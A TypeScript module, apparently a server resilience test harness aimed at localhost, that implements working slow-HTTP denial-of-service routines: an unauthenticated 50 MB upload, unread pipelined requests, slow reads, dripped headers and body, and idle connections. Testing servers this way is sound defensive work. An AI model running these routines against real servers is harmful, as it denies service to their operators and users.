import { once } from 'node:events'
import type { Socket } from 'node:net'
import { attackerAddress, closed, open, type Target } from './wire.ts'

const megabyte = 1024 * 1024

function head(start: string, headers: Record<string, string> = {}): string {
  const lines = { Host: 'localhost', ...attackerAddress(), ...headers }
  return [start, ...Object.entries(lines).map(([name, value]) => `${name}: ${value}`)].join('\r\n')
}

/** Uploads 50 MB without a session, to the end, whatever the response is. */
export async function uploadUnasked(target: Target): Promise<string> {
  const socket = open(target).resume()
  const total = 50 * megabyte
  const boundary = '--x\r\nContent-Disposition: form-data; name="avatar"; filename="a.png"\r\n\r\n'
  socket.write(
    `${head('POST /api/upload HTTP/1.1', {
      'Content-Type': 'multipart/form-data; boundary=x',
      'Content-Length': String(total),
    })}\r\n\r\n${boundary}`,
  )
  const chunk = Buffer.alloc(256 * 1024, 7)
  const gone = closed(socket)
  for (let sent = boundary.length; sent < total && !socket.destroyed; sent += chunk.length) {
    if (!socket.write(chunk)) await Promise.race([once(socket, 'drain').catch(() => {}), gone])
  }
  const read = Math.round(socket.bytesWritten / megabyte)
  const cut = socket.destroyed
  socket.destroy()
  return cut ? 'cut off' : `all ${read} MB taken`
}

/** Pipelines many requests on one connection and reads no response. */
export function pipelineUnread(target: Target, requests: number): Promise<string> {
  const socket = open(target).pause()
  const request = `${head('GET / HTTP/1.1', { 'Accept-Encoding': 'identity' })}\r\n\r\n`
  socket.write(request.repeat(requests))
  // Blank lines between requests are allowed. A client that does not read only notices a closed
  // connection when it writes.
  return everySecond(socket, () => void socket.write('\r\n'))
}

/** Reads a large file repeatedly at 1 KB per second. */
export function readSlowly(target: Target, path: string): Promise<string> {
  const socket = open(target).pause()
  socket.write(`${head(`GET ${path} HTTP/1.1`)}\r\n\r\n`.repeat(20))
  return everySecond(socket, () => {
    socket.read(1024)
    socket.write('\r\n')
  })
}

export function dripHeaders(target: Target): Promise<string> {
  const socket = open(target).resume()
  socket.write(`${head('GET / HTTP/1.1')}\r\n`)
  return everySecond(socket, () => void socket.write('X-More: a\r\n'))
}

export function dripBody(target: Target): Promise<string> {
  const socket = open(target).resume()
  const type = { 'Content-Type': 'application/json', 'Content-Length': '10000' }
  socket.write(`${head('POST /api/message HTTP/1.1', type)}\r\n\r\n{`)
  return everySecond(socket, () => void socket.write(' '))
}

/** Sends nothing. */
export function stayIdle(target: Target): Promise<string> {
  return everySecond(open(target).resume(), () => {})
}

async function everySecond(socket: Socket, act: () => void): Promise<string> {
  const timer = setInterval(() => {
    if (socket.writable) act()
  }, 1_000)
  await closed(socket)
  clearInterval(timer)
  return 'let go'
}
